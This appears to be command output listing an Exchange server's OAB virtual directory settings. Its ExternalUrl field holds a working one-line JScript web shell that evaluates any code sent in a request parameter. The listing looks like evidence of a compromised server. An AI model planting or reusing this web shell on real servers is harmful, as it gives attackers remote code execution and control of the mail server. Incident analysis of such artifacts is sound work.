Name                            : OAB (Default Web Site)
Server                          : EX01
InternalUrl                     : https://ex01.corp.example/OAB
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>
RequireSSL                      : False
PollInterval                    : 480
